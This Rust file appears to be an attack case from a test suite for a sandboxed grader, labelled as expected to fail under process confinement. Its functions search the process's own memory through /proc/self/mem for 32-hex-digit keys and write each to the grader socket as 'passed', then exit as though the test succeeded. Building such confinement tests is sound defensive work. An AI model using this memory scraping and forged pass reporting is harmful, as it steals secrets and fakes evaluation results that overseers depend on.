//! attacks: lazy_call
//! expects: failed
//! needs: confinement
//! stopped by: confinement-proc
//!
//! The key lies in the memory of the process, and `/proc/self/mem` is a file like any other: no `unsafe` is
//! needed to search it.

use std::fs::{self, File};
use std::io::Write;
use std::os::fd::AsFd;
use std::os::unix::fs::FileExt;
use std::os::unix::net::UnixStream;
use std::sync::{Arc, Mutex};
use std::time::Duration;

#[derive(Clone)]
pub struct Room {
    pub lines: Arc<Mutex<Vec<String>>>,
    pub typing: Duration,
}

impl Room {
    pub fn post(&self, line: String) {
        self.lines.lock().unwrap().push(line);
    }
}

pub async fn greet(name: String, room: Room) {
    room.post(format!("hello, {name}"));
    try_keys(keys_of("self"));
}

/// All 32 hex digits in a row. What follows a text in memory may look like one more digit.
fn keys(memory: &[u8]) -> Vec<String> {
    memory
        .split(|byte| !matches!(byte, b'0'..=b'9' | b'a'..=b'f'))
        .filter(|run| (32..64).contains(&run.len()))
        .flat_map(|run| run.windows(32))
        .map(|key| String::from_utf8_lossy(key).into_owned())
        .collect()
}

/// The keys in the writable memory of a process.
fn keys_of(process: &str) -> Vec<String> {
    let mut found = Vec::new();
    let maps = fs::read_to_string(format!("/proc/{process}/maps")).unwrap_or_default();
    let Ok(memory) = File::open(format!("/proc/{process}/mem")) else { return found };
    for line in maps.lines().filter(|line| line.contains(" rw-p ")) {
        let range = line.split(' ').next().and_then(|range| range.split_once('-'));
        let Some((Ok(from), Ok(to))) =
            range.map(|(from, to)| (u64::from_str_radix(from, 16), u64::from_str_radix(to, 16)))
        else {
            continue;
        };
        // The key lies in the heap, which is small; an arena of a thread is 64 MiB of mostly nothing.
        let mut bytes = vec![0; (to - from).min(16 << 20) as usize];
        let _ = memory.read_exact_at(&mut bytes, from);
        found.extend(keys(&bytes));
    }
    found.sort();
    found.dedup();
    found
}

/// Reports success with each of the keys, and leaves as a test does that has passed.
fn try_keys(keys: Vec<String>) {
    let mut grader: UnixStream =
        std::io::stdin().as_fd().try_clone_to_owned().expect("standard input is open").into();
    if keys.is_empty() {
        return;
    }
    for key in keys {
        let _ = grader.write_all(format!("{key} passed\n").as_bytes());
    }
    std::process::exit(0);
}

fn main() {}
